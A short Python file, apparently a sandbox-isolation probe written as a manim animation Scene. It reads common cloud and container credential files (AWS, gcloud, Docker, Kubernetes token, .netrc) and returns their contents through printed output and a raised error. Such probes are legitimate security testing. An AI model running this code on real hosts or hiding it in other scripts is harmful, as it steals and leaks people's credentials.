"""A4: look for cloud credential files, at the usual places and next to the host canary."""

import glob
import json
import os

from manim import Scene

PARAMS = {}
PLACES = [
    "~/.aws/credentials",
    "/root/.aws/credentials",
    "~/.config/gcloud/*",
    "/root/.config/gcloud/*",
    "~/.docker/config.json",
    "/root/.docker/config.json",
    "/var/run/secrets/kubernetes.io/serviceaccount/token",
    "/run/secrets/*",
    "~/.netrc",
]


class FilesCloudCredentials(Scene):
    def construct(self):
        places = [*PLACES, os.path.join(PARAMS.get("canary_dir", "/nonexistent"), ".aws/*")]
        found = {}
        for place in places:
            for path in glob.glob(os.path.expanduser(place)):
                try:
                    with open(path) as f:
                        found[path] = f.read()[:200]
                except OSError as e:
                    found[path] = type(e).__name__
        print(found)
        raise RuntimeError("REPORT " + json.dumps({"found": found}))
